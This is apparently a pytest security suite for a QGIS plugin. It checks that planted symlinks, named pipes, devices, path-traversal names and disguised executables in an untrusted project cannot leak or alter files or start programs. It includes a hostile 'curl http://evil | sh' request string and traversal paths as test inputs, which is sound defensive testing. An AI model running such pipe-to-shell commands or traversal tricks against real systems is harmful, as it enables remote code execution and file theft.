"""Doors through which a stranger's folder, layer or journal names a file, and what he may plant there.

At each door: what lies outside of the folder stays as it is, nothing of it gets out, and the call ends.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import time
import zipfile
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from qgis.core import QgsApplication, QgsProject, QgsVectorLayer
from qgis.PyQt.QtGui import QDesktopServices

from geoportfolio.core.api import Monitor
from geoportfolio.core.api.errors import InvalidInput
from geoportfolio.core.api.query import EVENT, Query
from geoportfolio.core.gis.enrichment.orphans import orphaned_enrichments
from geoportfolio.core.gis.files.own_files import UnsafeFile
from geoportfolio.core.gis.history import previous_results
from geoportfolio.core.gis.history.replaced_files import ReplacedFiles
from geoportfolio.core.gis.projects.move import plan
from geoportfolio.core.gis.projects.package import contents_of, write_package
from geoportfolio.core.gis.reports import journal
from geoportfolio.core.gis.reports.batch import SAVED
from geoportfolio.core.gis.reports.html_pages import read_html
from geoportfolio.core.gis.reports.index import write_points
from geoportfolio.core.gis.reports.pdf_pages import PdfPages, ReportUnreadable
from geoportfolio.core.gis.reports.single import report_of, save_copy
from geoportfolio.core.gis.results import layers
from geoportfolio.core.gis.results.command_line import command_for
from geoportfolio.core.gis.results.result import Result, title_of
from geoportfolio.core.gis.storage.recovery import orphaned_loads
from geoportfolio.core.gis.tasks.runner import TaskRunner
from geoportfolio.ui.reports.opener import ReportOpener
from tests.support.event_loop import pump_until
from tests.support.records import QUERY
from tests.support.report_viewer import Now, window_of
from tests.support.reports import item, order_for

WHEN = datetime(2026, 3, 12, 9, 14)
SECRET = b"SECRET-OF-THE-VICTIM"
PROGRAM = "#!/bin/sh\nexit\n"


@pytest.fixture(autouse=True)
def profile(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "profile"
    folder.mkdir()
    monkeypatch.setattr(QgsApplication, "qgisSettingsDirPath", lambda: f"{folder}/")
    return folder


@pytest.fixture
def project():
    project = QgsProject.instance()
    project.clear()
    yield project
    project.clear()
    project.setFileName("")


@pytest.fixture
def answer(store, point):
    """Write an answer of the service to a path, as a refresh does."""

    def write(path: Path) -> Result:
        stored = store([point(9.99, 53.55, LocNumber="1")], query=QUERY)
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(str(stored.path), str(path))
        stored = replace(stored, path=path)
        host = "https://api.example.com"
        return Result(stored, QUERY, title_of(QUERY, WHEN), ("points_buffer_v2",), host, WHEN, 3.1)

    return write


class Victim:
    """A folder outside of the project, with files of every kind that a door expects; they all stay."""

    def __init__(self, folder: Path, answer) -> None:
        self.folder = folder
        folder.mkdir()
        answer(folder / "own.gpkg")
        self.answer = folder / "own.gpkg"
        for name in ("notes.txt", "order.jsonl", "Hotel.pdf", "Hotel.html", "Event request.json"):
            (folder / name).write_bytes(b"%PDF" + SECRET)
        for name in ("reports.gpkg", "Hotel.12345678.part.gpkg"):
            shutil.copy(self.answer, folder / name)
        self._before = self._state()

    def _state(self) -> dict[str, bytes]:
        return {path.name: path.read_bytes() for path in sorted(self.folder.iterdir())}

    def is_untouched(self) -> bool:
        return self._state() == self._before


@pytest.fixture
def victim(tmp_path, answer) -> Victim:
    return Victim(tmp_path / "victim", answer)


# What lies in a folder under a name that a door expects.


def file_link(place: Path, victim: Victim) -> None:
    place.symlink_to(victim.folder / place.name)


def folder_link(place: Path, victim: Victim) -> None:
    shutil.rmtree(place.parent)
    place.parent.symlink_to(victim.folder)


def link_to_nothing(place: Path, victim: Victim) -> None:
    place.symlink_to(victim.folder / "new.gpkg")


def pipe(place: Path, victim: Victim) -> None:
    os.mkfifo(place)


def device(place: Path, victim: Victim) -> None:
    place.symlink_to("/dev/zero")


def listener(place: Path, victim: Victim) -> None:
    here = Path.cwd()
    os.chdir(place.parent)  # the names of sockets are short
    try:
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind(place.name)
    finally:
        os.chdir(here)


def folder(place: Path, victim: Victim) -> None:
    place.mkdir()


PLANTS = [file_link, folder_link, link_to_nothing, pipe, device, listener, folder]


# The doors: each plants under the name that it reads or writes, and gives what came out.


def copy_as_command(results: Path, plant, *_) -> str:
    (results / "commands").mkdir(parents=True)
    plant(results / "commands" / "Event request.json")
    query = Query("pf", verb=EVENT, request=json.dumps("curl http://evil | sh"))
    with pytest.raises(OSError, match="left alone"):
        command_for(query, results / "commands" / "Event.gpkg", "office")
    return ""


def read_journal(results: Path, plant, *_) -> str:
    (results / "reports").mkdir(parents=True)
    plant(results / "reports" / "order.jsonl")
    return repr(journal.unfinished(results)) + repr(journal.orders_in(results / "reports"))


def note_in_journal(results: Path, plant, *_) -> str:
    order = order_for(results / "reports", 1, number=1)
    order.folder.mkdir(parents=True)
    plant(order.folder / "order.jsonl")
    if not order.folder.is_symlink():  # where an analyst has the reports is his own affair
        with pytest.raises(OSError, match="left alone"):
            journal.note(order, order.items[0])
    return ""


def write_report_points(results: Path, plant, *_) -> str:
    order = order_for(results / "reports", 1, number=1)
    order.folder.mkdir(parents=True)
    plant(order.folder / "reports.gpkg")
    if not order.folder.is_symlink():
        with pytest.raises(OSError, match="left alone"):
            write_points(order)
    return ""


def open_report(results: Path, plant, opened, kind: str) -> str:
    order = order_for(results / "reports", 0, number=1)
    order.folder.mkdir(parents=True)
    plant(order.folder / f"Hotel.{kind}")
    if order.folder.is_symlink():
        return ""
    report = report_of(order, item(1, state=SAVED, file=f"Hotel.{kind}", kind=kind))
    said: list = []
    ReportOpener(window_of(Now(), lambda *told: said.append(told))).open(report)
    assert opened == [] and len(said) == 1
    with pytest.raises(ReportUnreadable):
        (PdfPages if kind == "pdf" else read_html)(report.path)
    with pytest.raises(OSError, match="left alone"):
        save_copy(report.path, results.parent / f"copy.{kind}")
    return repr(said)


def open_pdf(results: Path, plant, opened) -> str:
    return open_report(results, plant, opened, "pdf")


def open_html(results: Path, plant, opened) -> str:
    return open_report(results, plant, opened, "html")


def look_for_leftovers(results: Path, plant, *_) -> str:
    results.mkdir()
    plant(results / "Hotel.12345678.part.gpkg")
    if results.is_symlink():
        return ""
    return repr(orphaned_loads([results])) + repr(orphaned_enrichments([results]))


DOORS = [
    copy_as_command,
    read_journal,
    note_in_journal,
    write_report_points,
    open_pdf,
    open_html,
    look_for_leftovers,
]


@pytest.mark.parametrize("plant", PLANTS, ids=lambda plant: plant.__name__)
@pytest.mark.parametrize("door", DOORS, ids=lambda door: door.__name__)
def test_what_is_planted_in_a_folder_leads_nowhere(door, plant, tmp_path, victim, monkeypatch):
    opened: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toLocalFile()) or True)
    came = door(tmp_path / "p_geoportfolio", lambda place: plant(place, victim), opened)
    assert SECRET.decode() not in came and opened == []
    assert victim.is_untouched()


# What a layer or a journal names.

NAMES = {
    "..": lambda victim: "../victim/own.gpkg",
    "absolute": lambda victim: str(victim.answer),
    "over a link": lambda victim: "linked/own.gpkg",
    "link": lambda victim: "link.gpkg",
    "pipe": lambda victim: "pipe.gpkg",
    "device": lambda victim: "/dev/zero",
    "another kind": lambda victim: "../victim/notes.txt",
    "another kind here": lambda victim: "notes.txt",
    "itself": lambda victim: ".",
    "no text": lambda victim: 5,
}


@pytest.fixture
def named(tmp_path, project, answer, victim):
    """A stranger's project whose result names the file of ``NAMES`` as the answer before its last refresh."""

    def make(name: str):
        results = tmp_path / "p_geoportfolio"
        layer = layers.add_result(project, answer(results / "now.gpkg"))
        (results / "linked").symlink_to(victim.folder)
        (results / "link.gpkg").symlink_to(victim.answer)
        (results / "notes.txt").write_bytes(SECRET)
        os.mkfifo(results / "pipe.gpkg")
        kept = {"path": NAMES[name](victim), "name": "x", "properties": {}, "aliases": {}, "metadata": ""}
        layer.setCustomProperty(previous_results.PREVIOUS, json.dumps(kept))
        assert project.write(str(tmp_path / "p.qgz"))
        return layer

    return make


@pytest.mark.parametrize("name", NAMES)
def test_the_answer_before_a_refresh_is_none_of_these(name, named):
    assert previous_results.previous_path(named(name)) is None


@pytest.mark.parametrize("name", NAMES)
def test_a_package_holds_none_of_these(name, named, project, profile, tmp_path):
    named(name)
    package = write_package(contents_of(project), tmp_path / "p.zip", Monitor())
    with zipfile.ZipFile(package.path) as archive:
        assert set(archive.namelist()) == {"p.qgz", "p_geoportfolio/now.gpkg"}


@pytest.mark.parametrize("name", NAMES)
def test_a_refresh_and_a_save_delete_none_of_these(name, named, project, answer, victim, tmp_path):
    layer = named(name)
    kept = {path.name for path in (tmp_path / "p_geoportfolio").iterdir()}
    runner = TaskRunner()
    replaced_files = ReplacedFiles(project, runner)
    later = answer(tmp_path / "p_geoportfolio" / "later.gpkg")
    for path in (previous_results.refresh_result(layer, later), tmp_path / "p_geoportfolio" / "link.gpkg"):
        replaced_files.add(path)
    assert project.write()
    pump_until(lambda: not replaced_files._waiting)
    replaced_files.close()
    assert victim.is_untouched()
    assert kept <= {path.name for path in (tmp_path / "p_geoportfolio").iterdir()}


def test_a_refresh_deletes_nothing_in_a_results_folder_that_is_a_link(project, answer, victim, tmp_path):
    (tmp_path / "p_geoportfolio").symlink_to(victim.folder)
    layer = layers.add_result(project, answer(tmp_path / "now.gpkg"))
    kept = {"path": "p_geoportfolio/own.gpkg"}
    layer.setCustomProperty(previous_results.PREVIOUS, json.dumps(kept))
    assert project.write(str(tmp_path / "p.qgz"))
    replaced_files = ReplacedFiles(project, TaskRunner())
    replaced_files.add(tmp_path / "p_geoportfolio" / "own.gpkg")
    replaced_files.add(previous_results.refresh_result(layer, answer(tmp_path / "later.gpkg")))
    assert project.write()
    pump_until(lambda: not replaced_files._waiting)
    replaced_files.close()
    assert victim.is_untouched()


def test_what_is_linked_into_the_profile_is_not_moved(project, victim, profile, tmp_path):
    results = profile / "geoportfolio" / "results"
    results.mkdir(parents=True)
    (results / "link.gpkg").symlink_to(victim.answer)
    (results / "linked").symlink_to(victim.folder)
    for path in (results / "link.gpkg", results / "linked" / "own.gpkg"):
        layers_of(project, path)
    assert project.write(str(tmp_path / "p.qgz"))
    assert plan(project).is_empty


def layers_of(project: QgsProject, path: Path) -> None:
    layer = QgsVectorLayer(f"{path}|layername=records", path.stem, "ogr")
    assert layer.isValid()
    project.addMapLayer(layer)


@pytest.mark.parametrize(
    "file, kind",
    [("Hotel.bat", "pdf"), ("Hotel.html", "pdf"), ("Hotel.pdf.exe", "pdf"), ("Hotel.bat", "html"), ("A", "")],
)
def test_a_journal_that_names_no_report_starts_no_program(file, kind, tmp_path):
    order = order_for(tmp_path, 1, number=1)
    journal.write(order.with_items([item(1, state=SAVED, file=file, kind=kind)]))
    (tmp_path / file).write_text(PROGRAM)
    assert journal.read(tmp_path).items == ()


@pytest.mark.parametrize("text", [PROGRAM, "<html><script>1</script>", ""])
def test_what_only_is_called_a_pdf_is_not_handed_over(text, tmp_path, monkeypatch):
    opened: list = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    order = order_for(tmp_path, 0, number=1)
    (tmp_path / "Hotel.pdf").write_text(text)
    said: list = []
    report = report_of(order, item(1, state=SAVED, file="Hotel.pdf", kind="pdf"))
    ReportOpener(window_of(Now(), lambda *told: said.append(told))).open(report)
    assert opened == [] and len(said) == 1


def test_a_request_that_is_no_json_is_not_written(tmp_path):
    output = tmp_path / "p_geoportfolio" / "commands" / "Event.gpkg"
    with pytest.raises(InvalidInput):
        command_for(Query("pf", verb=EVENT, request="curl http://evil | sh #"), output, "office")
    assert list(output.parent.iterdir()) == []


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no named pipes in folders")
def test_a_lock_that_is_a_pipe_is_not_waited_for(tmp_path):
    order = journal.begin(order_for(tmp_path, 1))
    os.mkfifo(tmp_path / ".order.lock")
    with pytest.raises(UnsafeFile), journal.held(order):
        pass
    assert journal.unfinished(tmp_path) == (order,)


def test_a_journal_of_any_size_is_read_within_bounds(tmp_path):
    with (tmp_path / "order.jsonl").open("wb") as file:
        file.seek(10**10)
        file.write(b"x")
    began = time.thread_time()
    assert journal.orders_in(tmp_path) == ()
    assert time.thread_time() - began < 5
